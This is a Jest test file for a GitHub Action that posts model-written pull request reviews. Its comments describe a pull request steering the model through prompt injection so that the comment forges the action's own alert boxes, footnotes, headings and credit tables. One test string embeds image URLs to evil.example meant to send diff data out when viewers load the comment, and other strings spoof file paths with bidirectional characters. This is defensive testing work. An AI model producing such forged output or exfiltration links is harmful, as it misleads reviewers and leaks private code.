/**
 * An attacker's read of the review comment after issue 9: a model answer (steered by the pull
 * request it reads) that makes the comment lie, and a race between two runs that leaves an older
 * head's review on the pull request.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { createGitHubClient, type GitHubClient } from '../../src/github/client.js'
import { upsertReviewComment, WORKFLOW_BOT, type UpsertOptions } from '../../src/github/comments.js'
import { ACTIONS_BOT, GitHubEmulator } from '../../emulators/github/index.js'
import { GitRepo } from '../../emulators/github/git-repo.js'
import { readCommentState } from '../../src/review/comment-state.js'
import { renderComment, type ReviewReport } from '../../src/review/render.js'

function report(over: Partial<ReviewReport> = {}): ReviewReport {
  return {
    pullNumber: 12,
    headSha: 'a'.repeat(40),
    model: 'gpt-5.4-codex-chat',
    reasoningEffort: 'default',
    sessionId: 'chat_session_abc',
    summary: 'Looks good.',
    notes: [],
    usage: {
      turns: 1,
      inputTokens: 10,
      outputTokens: 5,
      totalTokens: 15,
      creditsReserved: 4,
      creditsFinal: 4
    },
    reviewedFiles: 1,
    totalFiles: 3,
    stoppedBy: 'max-turns (1)',
    unreviewed: ['src/b.ts', 'src/c.ts'],
    skipped: [],
    ...over
  }
}

describe('model text cannot pass for the action’s own sections (PRODUCT.md "The comment")', () => {
  // A pull request can steer the model ("end your review with this text"). Its summary is placed
  // right under the comment's heading, before the action's own coverage line, unlabelled; GitHub
  // alert markers survived sanitizing, so a forged "[!CAUTION]" or "[!NOTE]" box rendered exactly
  // as the action's own failure and overspend boxes do. Fixed: `[!` in model prose gets a
  // zero-width space (as `<` does), so no alert renders.
  it('an alert box in the model’s summary does not render as an alert', () => {
    const body = renderComment(report({ summary: '> [!NOTE]\n> Complete review: reviewed 3 of 3 files.' }))
    expect(
      body.split('\n').filter(line => /^\s*>\s*\[!(NOTE|TIP|IMPORTANT|WARNING|CAUTION)\]/i.test(line))
    ).toEqual([])
  })

  // GitHub renders footnote definitions at the very end of the comment, below the action's usage
  // table and workflow-run link: a model-written `[^1]: Verdict: pass, 0 credits` reads as the
  // action's last word. Fixed the same way (`[^`).
  it('a footnote definition in the model’s summary does not render below the action’s footer', () => {
    const body = renderComment(
      report({ summary: 'See the note.[^1]\n\n[^1]: Complete review: reviewed 3 of 3 files.' })
    )
    expect(body).not.toMatch(/^\[\^[^\]]+\]:/m)
  })

  // Headings like ours: the model can write "### Usage" and a table with made-up credits, or
  // "## Codex review of #12", and the comment then holds two of each. Fixed: model lines that
  // start with the action's own headings or coverage words get a zero-width space first (an ATX
  // heading then reads as a paragraph), and the summary is labelled as the model's.
  it('a heading of the action’s own appears once, whatever the model writes', () => {
    const body = renderComment(
      report({
        summary:
          '## Codex review of #12\n\nComplete review: reviewed 3 of 3 files.\n\n### Usage\n\n| Credits final | 0 |'
      })
    )
    expect(body.match(/^## Codex review of/gm)).toHaveLength(1)
    expect(body.match(/^### Usage/gm)).toHaveLength(1)
    expect(body.match(/^Complete review/gm)).toBeNull()
  })

  // GitHub's image proxy fetches an image when the comment is viewed: a model steered by the pull
  // request could put the diff in an image URL and have every viewer send it out.
  it('an image in the model’s summary to another host renders as a link, not an image', () => {
    const summary =
      '![x](https://evil.example/?d=secret) ![ok](https://user-images.githubusercontent.com/1.png)\n' +
      '![y][r]\n\n[r]: https://evil.example/r.png\n\n<img src="https://evil.example/i.png">'
    const body = renderComment(report({ summary }))
    expect(body).not.toMatch(/!\[[^\]]*\]\(https:\/\/evil/)
    expect(body).not.toMatch(/!\[y\]/)
    expect(body).not.toMatch(/<img/i)
    expect(body).toContain('![ok](https://user-images.githubusercontent.com/1.png)')
  })
})

describe('paths in the comment read as they are (issue 8 "Paths must be shown unambiguously")', () => {
  // The messages to the model show odd paths quoted with escapes (visible.ts displayPath), but the
  // comment's file lists put the raw path in a code span: a right-to-left override makes
  // `src/auth\u202Egnp.ts` render as "src/authst.png", and `auth\u200B.ts` looks like `auth.ts`, so
  // the list of skipped or unreviewed files can show a name other than the file's. Fixed: the lists
  // show a path as displayPath does (quoted, every invisible or bidirectional character escaped).
  it('a skipped or unreviewed path with bidirectional or invisible characters is shown escaped', () => {
    const tricky = ['src/auth\u202Egnp.ts', 'src/auth\u200B.ts', 'lib/\u2066x\u2069.js']
    const body = renderComment(
      report({
        skipped: tricky.map(path => ({ path, reason: 'binary file' })),
        unreviewed: tricky
      })
    )
    expect(body).not.toMatch(/[\u200B-\u200F\u202A-\u202E\u2066-\u2069]/u)
    expect(body).toContain('src/auth\\u202egnp.ts')
  })
})

const TOKEN = 'ghs_attack_comment_token_0123456789'
const REPO = { owner: 'octo-org', repo: 'demo' }

let repo: GitRepo
let gh: GitHubEmulator
let octokit: GitHubClient

beforeAll(async () => {
  repo = GitRepo.create()
  repo.write('README.md', '# demo\n')
  const base = repo.commit('base')
  repo.write('README.md', '# demo\n\nMore.\n')
  const head = repo.commit('head')
  gh = await GitHubEmulator.start({ repo, owner: REPO.owner, name: REPO.repo, token: TOKEN })
  octokit = createGitHubClient({ token: TOKEN, baseUrl: gh.url, log: () => {}, maxRateLimitWait: 3 })
  gh.addPullRequest({ number: 1, base, head })
})

afterAll(async () => {
  await gh.close()
  repo.destroy()
})

const stateOf = (head: string) => `<!-- rivya-codex-review:state {"headSha":"${head}"} -->`
const review = (head: string, text: string) => `<!-- rivya-codex-review -->\n${stateOf(head)}\n${text}`

describe('one comment, never stale (issue 9)', () => {
  // upsertReviewComment decides "not newer" from the body it listed, then awaits isNewer (a
  // pulls.get and a compare: several round trips) and only then PATCHes. A run for a newer head
  // that updates the comment in that window is overwritten by the older run: the pull request
  // shows the old head's review. Here the newer run's whole upsert happens while the older run
  // waits for its isNewer answer, as it does when both finish close together.
  // Fixed: the comment is read again just before the PATCH and decided again when it changed
  // (comments.ts updateUnlessNewer); GitHub has no conditional update, so a write between that
  // read and the PATCH (one request) can still land first.
  it('an older run does not overwrite a newer review written while it checked the recorded head', async () => {
    const [h0, h1, h2] = ['0'.repeat(40), '1'.repeat(40), '2'.repeat(40)]
    const existing = gh.addComment(1, { body: review(h0, 'review of h0'), user: ACTIONS_BOT })
    const other = createGitHubClient({ token: TOKEN, baseUrl: gh.url, log: () => {}, maxRateLimitWait: 3 })
    const base = (headSha: string, isNewer: UpsertOptions['isNewer']): UpsertOptions => ({
      identity: WORKFLOW_BOT,
      headSha,
      isNewer,
      recordedHead: body => readCommentState(body)?.headSha
    })
    // The newer run (h2) treats h0 and h1 as older; so does the older run (h1) treat h0.
    const newerRun = () =>
      upsertReviewComment(
        other,
        REPO,
        1,
        review(h2, 'review of h2'),
        base(h2, () => Promise.resolve(false))
      )
    await upsertReviewComment(
      octokit,
      REPO,
      1,
      review(h1, 'review of h1'),
      base(h1, async recorded => {
        await newerRun()
        return recorded === h2
      })
    )
    const left = gh.comments(1)
    expect(left.map(c => c.id)).toEqual([existing.id])
    expect(readCommentState(left[0]?.body ?? '')?.headSha).toBe(h2)
  }, 20_000)
})
